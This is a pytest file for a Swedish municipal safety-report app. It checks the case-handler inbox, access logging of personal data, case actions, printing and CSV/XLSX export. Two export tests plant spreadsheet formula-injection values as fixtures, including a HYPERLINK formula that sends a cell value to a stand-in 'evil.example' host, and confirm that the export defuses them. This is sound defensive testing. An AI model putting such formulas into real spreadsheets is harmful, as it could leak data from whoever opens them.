"""The case handler's pages: inbox, case actions, print, export, and the audit trail."""

import csv
import io

import pytest
from django.core import mail

from tryggve.audit.models import AccessLog
from tryggve.reports.models import Category, Report, ReportEvent, Status, Unit
from tryggve.reports.services import report_create


def new(**kwargs):
    defaults = {
        "category": Category.objects.for_code("2505").get(slug="belysning"),
        "time_of_day": "night",
        "severity": 2,
        "description": "Mörkt",
        "lat": 65.59,
        "lon": 19.18,
    }
    defaults.update(kwargs)
    return report_create(**defaults)[0]


@pytest.mark.django_db
def test_inbox_filters_and_counts(case_handler, municipality):
    dark = new(description="Mörk gångtunnel")
    vegetation = Category.objects.for_code("2505").get(slug="vegetation")
    bushes = new(category=vegetation, description="Sly")
    Report.objects.filter(pk=bushes.pk).update(status=Status.RESOLVED)
    body = case_handler.get("/personal/arenden/?q=gångtunnel").content.decode()
    assert dark.reference in body and bushes.reference not in body
    body = case_handler.get("/personal/arenden/?status=open").content.decode()
    assert dark.reference in body and bushes.reference not in body
    vegetation = Category.objects.for_code("2505").get(slug="vegetation").pk
    body = case_handler.get(f"/personal/arenden/?category={vegetation}").content.decode()
    assert bushes.reference in body and dark.reference not in body
    # Bad filter values are ignored with the form's message, never a 500.
    for query in [
        "status=nope",
        "category=abc",
        "area=999999",
        "unit=-1",
        "q=" + "x" * 500,
        "sida=abc",
        "sida=99999",
        "q=%00",
    ]:
        assert case_handler.get(f"/personal/arenden/?{query}").status_code == 200, query


@pytest.mark.django_db
def test_the_inbox_map_labels_its_points_in_the_reader_s_language(case_handler, municipality):
    category = Category.objects.for_code("2505").get(slug="belysning")
    report = new()
    swedish = case_handler.get("/personal/arenden/").context["points"]
    assert [(p["ref"], p["label"]) for p in swedish] == [(report.reference, category.name_sv)]
    case_handler.cookies["django_language"] = "en"
    english = case_handler.get("/personal/arenden/").context["points"]
    assert category.name_en and english[0]["label"] == category.name_en


@pytest.mark.django_db
def test_inbox_query_count_does_not_grow(case_handler, municipality, django_assert_max_num_queries):
    for _ in range(3):
        new()
    # 14, and 2 for moving the session's 8-hour idle timer on (SESSION_SAVE_EVERY_REQUEST).
    with django_assert_max_num_queries(16) as few:
        case_handler.get("/personal/arenden/")
    for _ in range(30):
        new(contact_email="a@example.se")
    with django_assert_max_num_queries(len(few.captured_queries)):
        response = case_handler.get("/personal/arenden/")
    assert response.status_code == 200


@pytest.mark.django_db
def test_case_page_logs_reading_personal_data(case_handler, municipality):
    report = new(contact_name="Anna Andersson", contact_email="anna@example.se")
    body = case_handler.get(f"/personal/arenden/{report.reference}/").content.decode()
    assert "Anna Andersson" in body
    log = AccessLog.objects.get()
    assert log.actor == case_handler.user and report.reference in log.subject
    assert log.purpose == AccessLog.Purpose.CASE
    assert case_handler.get("/personal/arenden/OTR-1900-99999/").status_code == 404
    assert AccessLog.objects.count() == 1


@pytest.mark.django_db
def test_an_anonymous_case_and_its_photo_are_logged_too(case_handler, municipality):
    """An anonymous report still holds the resident's own words (which may name a
    neighbour) and photos (faces, number plates): reading either is logged."""
    from tryggve.browser_fixtures import jpeg_bytes
    from tryggve.lib.images import clean_image

    anonymous = new(
        description="Grannen Per Persson står här varje kväll",
        photos=[clean_image(jpeg_bytes(), "lampa.jpg")],
    )
    body = case_handler.get(f"/personal/arenden/{anonymous.reference}/").content.decode()
    assert "Per Persson" in body
    read = AccessLog.objects.get()
    assert read.actor == case_handler.user and anonymous.reference in read.subject
    photo = anonymous.photos.get()
    url = f"/personal/arenden/{anonymous.reference}/bild/{photo.pk}/"
    assert case_handler.get(url).status_code == 200
    seen = AccessLog.objects.exclude(pk=read.pk).get()
    assert f"bild {photo.pk}" in seen.subject and seen.purpose == AccessLog.Purpose.CASE


@pytest.mark.django_db
def test_triage_forward_update_and_resolve_through_the_pages(
    case_handler, municipality, django_capture_on_commit_callbacks
):
    report = new(contact_email="anna@example.se")
    unit = Unit.objects.create(name="Gatubelysning", email="ljus@example.se")
    base = f"/personal/arenden/{report.reference}"
    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        case_handler.post(f"{base}/status/", {"to_status": "under_review", "note": ""})
        case_handler.post(f"{base}/enhet/", {"unit": unit.pk})
        case_handler.post(f"{base}/status/", {"to_status": "forwarded", "note": "Skickat"})
        case_handler.post(f"{base}/meddelande/", {"kind": "public", "text": "Lampan byts"})
        case_handler.post(f"{base}/publicering/", {"public_text": "Mörk plats", "published": "on"})
        response = case_handler.post(f"{base}/status/", {"to_status": "resolved", "note": "Klart"})
    assert response.status_code == 302
    report.refresh_from_db()
    assert (report.status, report.unit, report.published) == (Status.RESOLVED, unit, True)
    kinds = list(report.events.values_list("kind", flat=True))
    assert kinds.count("status") == 3 and "assigned" in kinds and "moderated" in kinds
    recipients = [m.to[0] for m in mail.outbox]
    assert "ljus@example.se" in recipients
    assert recipients.count("anna@example.se") == 4  # three status changes, one update


@pytest.mark.django_db
def test_bad_case_input_gives_a_message_and_changes_nothing(case_handler, municipality):
    report = new()
    base = f"/personal/arenden/{report.reference}"
    for url, data in [
        ("status/", {"to_status": "bogus"}),
        ("status/", {"to_status": "not_actionable", "note": ""}),
        ("meddelande/", {"kind": "public", "text": ""}),
        ("meddelande/", {"kind": "shout", "text": "x"}),
        ("enhet/", {"unit": "abc"}),
        ("kategori/", {"category": "999999"}),
        ("publicering/", {"public_text": "x", "approved_photos": ["12345"]}),
        ("dubblett/", {"into": "OTR-0000-00000"}),
        ("dubblett/", {"into": report.reference}),
    ]:
        response = case_handler.post(f"{base}/{url}", data, follow=True)
        assert response.status_code == 200, url
        assert 'class="message message-error"' in response.content.decode(), (url, data)
    report.refresh_from_db()
    assert report.status == Status.RECEIVED and not report.published
    assert not report.events.exclude(kind=ReportEvent.Kind.CREATED).exists()
    assert case_handler.get(f"{base}/status/").status_code == 405


@pytest.mark.django_db
def test_export_csv_and_xlsx_follow_the_selection_and_defuse_formulas(case_handler, municipality):
    from openpyxl import load_workbook

    evil = new(description='=HYPERLINK("http://evil")')
    other = new(category=Category.objects.for_code("2505").get(slug="vegetation"))
    csv_response = case_handler.get("/personal/arenden/export.csv?q=HYPERLINK")
    assert csv_response["Content-Disposition"].startswith("attachment")
    rows = list(csv.reader(io.StringIO(csv_response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][0] == "Diarienummer"
    assert [r[0] for r in rows[1:]] == [evil.reference]
    assert rows[1][11].startswith("'=")
    xlsx = case_handler.get("/personal/arenden/export.xlsx")
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    references = {row[0] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert references == {evil.reference, other.reference}
    assert AccessLog.objects.filter(action="export").count() == 2
    assert case_handler.get("/personal/arenden/export.pdf").status_code == 404


@pytest.mark.django_db
def test_names_in_the_csv_export_cannot_run_as_formulas(case_handler, municipality):
    """Only the resident's texts were defused in the CSV; the area's name (imported from a
    GeoJSON file, or typed in the admin), the unit's and the category's went out as they
    were, and a spreadsheet would run them."""
    report = new(description="Mörkt")
    report.area.name = '=HYPERLINK("http://evil.example/"&A2,"Öppna")'
    report.area.save()
    unit = Unit.objects.create(name="+Gatukontoret", municipality=report.municipality)
    Report.objects.filter(pk=report.pk).update(unit=unit)
    report.category.name_sv = "@Belysning"
    report.category.save()
    response = case_handler.get("/personal/arenden/export.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    (row,) = rows[1:]
    assert row[3] == "'@Belysning"
    assert row[4] == '\'=HYPERLINK("http://evil.example/"&A2,"Öppna")'
    assert row[5] == "'+Gatukontoret"


@pytest.mark.django_db
def test_print_record_has_registration_number(case_handler, municipality):
    report = new(contact_name="Anna")
    body = case_handler.get(f"/personal/arenden/{report.reference}/utskrift/").content.decode()
    assert report.reference in body and "css/print.css" in body  # print styles (a file: CSP)
    assert AccessLog.objects.filter(action="print").exists()


@pytest.mark.django_db
def test_figures_for_the_council(council_reader, municipality):
    new()
    body = council_reader.get("/personal/siffror/").content.decode()
    assert "Belysning" in body
    assert "Känns platsen tryggare nu?" in body
